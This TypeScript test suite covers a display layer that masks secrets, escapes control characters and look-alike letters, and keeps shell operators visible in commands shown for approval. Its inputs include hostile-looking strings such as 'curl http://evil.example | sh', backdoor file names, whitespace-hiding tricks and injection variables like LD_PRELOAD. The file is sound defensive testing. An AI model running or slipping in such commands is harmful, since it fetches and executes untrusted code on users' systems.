import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { isPlainLine } from "../../text/plain-text.ts";
import {
  isSteering,
  MASKED,
  toAscii,
  toShown,
  toShownArgument,
  toShownJson,
  toShownValue,
} from "./shown-text.ts";

const KEY = "sk-proj-a1B2c3D4e5F6g7H8i9J0";

describe("what a person sees of a command", () => {
  it.each([
    ["plain words", "npx", "npx"],
    ["a path", "./server.js", "./server.js"],
    ["spaces", "a b", '"a b"'],
    ["an escape", "a\u001b[2Jb", '"a\\u001b[2Jb"'],
    ["a line that fakes ours", "a\nTrust this?", '"a\\nTrust this?"'],
    ["text that turns around", "\u202egnp.sh", '"\\u202egnp.sh"'],
    ["spaces that push the rest out of sight", `a${" ".repeat(300)}; evil`, '"a[300 spaces]; evil"'],
    ["a variable", "${HOME}/bin", "${HOME}/bin"],
    ["what begins like a key", "sk-abcdef1234567890", "sk-abcdef1234567890"],
    ["a package that is called like a key", "sk-backdoor-server", "sk-backdoor-server"],
    ["a package that looks like chance", "q7x9k2m8w1z5t4v6", "q7x9k2m8w1z5t4v6"],
    ["a file that is called like a key", "./key-stealer-backdoor.js", "./key-stealer-backdoor.js"],
    ["an option's module", "--auth-module=key-evil", "--auth-module=key-evil"],
    ["an option's file", "--token=q7x9k2m8w1z5t4v6.js", "--token=q7x9k2m8w1z5t4v6.js"],
    ["a password in an address", "https://bob:hunter2@x.y/z", `"https://bob:${MASKED}@x.y/z"`],
    ["an option with its key", `--api-key=${KEY}`, `--api-key=${MASKED}`],
    ["a header", `Authorization: Bearer ${KEY}`, `"Authorization: Bearer ${MASKED}"`],
  ])("%s", (_, text, shown) => {
    // A mask is no plain word to a shell.
    expect(toShownArgument(text).replaceAll('"', "")).toBe(shown.replaceAll('"', ""));
  });

  it("hides the rest of a key after its option, and nothing else there", () => {
    expect(toShownArgument(KEY, "--token")).toBe(`sk-p${MASKED}`);
    for (const run of ["$(curl evil | sh)", "./evil.sh", "hunter2", "sk-backdoor-server"])
      expect(toShownArgument(run, "--token").replaceAll('"', "")).toBe(run);
  });

  it("hides of a variable what can be nothing but a key, and never what could be run", () => {
    for (const key of [KEY, "16C7e42F9a0B4d1e8c3A", "0f8fad5b-d9cb-469f-a165-70867728950e"])
      expect(toShownValue("API_KEY", key)).toBe(MASKED);
    expect(toShownValue("Authorization", `Bearer ${KEY}`)).toBe(`Bearer ${MASKED}`);
    for (const run of [
      "touch x; curl http://evil.example | sh",
      "./evil.sh",
      "/opt/keys/q7x9k2m8w1z5t4v6",
      "sk-backdoor-server",
      `${KEY}/evil.sh`,
      `node ${KEY}`,
      "evil",
      "${API_KEY}",
    ])
      expect(toShownValue("APP_KEY", run).replaceAll('"', "")).toBe(run);
  });

  it("never hides what steers a program, by whatever case", () => {
    expect(isSteering("npm_config_script_shell")).toBe(true);
    for (const name of [
      "NODE_OPTIONS",
      "LD_PRELOAD",
      "PATH",
      "PYTHONPATH",
      "GIT_SSH_COMMAND",
      "DYLD_INSERT_LIBRARIES",
    ])
      expect([isSteering(name), toShownValue(name, KEY)]).toEqual([true, KEY]);
  });

  it("writes out letters that look like others", () => {
    expect(toAscii("https://ex\u0430mple.com")).toBe('"https://ex\\u{430}mple.com"');
    expect(toAscii("plain")).toBeUndefined();
  });

  it("says how much was cut", () => {
    expect(toShown("x ".repeat(5_000))).toMatch(/and 8000 more characters$/);
    expect(toShownJson("x ".repeat(5_000)).length).toBeLessThan(2_100);
  });

  it("is safe for a terminal, whatever it was", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), fc.string({ unit: "binary" }), (text, name) => {
        for (const shown of [
          toShown(text),
          toShownArgument(text),
          toShownValue(name, text),
          toShownJson({ [name]: text }),
        ])
          expect(isPlainLine(shown.replace(/\u200c|\u200d|\ufe0f/g, ""))).toBe(true);
        expect(toAscii(text) ?? "").toMatch(/^[\u0020-\u007e]*$/);
      }),
    );
  });

  it("hides no character of an instruction: what is hidden is a single word", () => {
    fc.assert(
      fc.property(
        fc.string(),
        fc.constantFrom("; ", " | ", " $(", " && ", "`"),
        fc.string(),
        (before, operator, after) => {
          const text = `${before}${operator}${after}`;
          if (text.length < 2_000 && !/\s{5,}/.test(text))
            expect(toShownArgument(text)).toContain(operator.trim());
        },
      ),
    );
  });
});
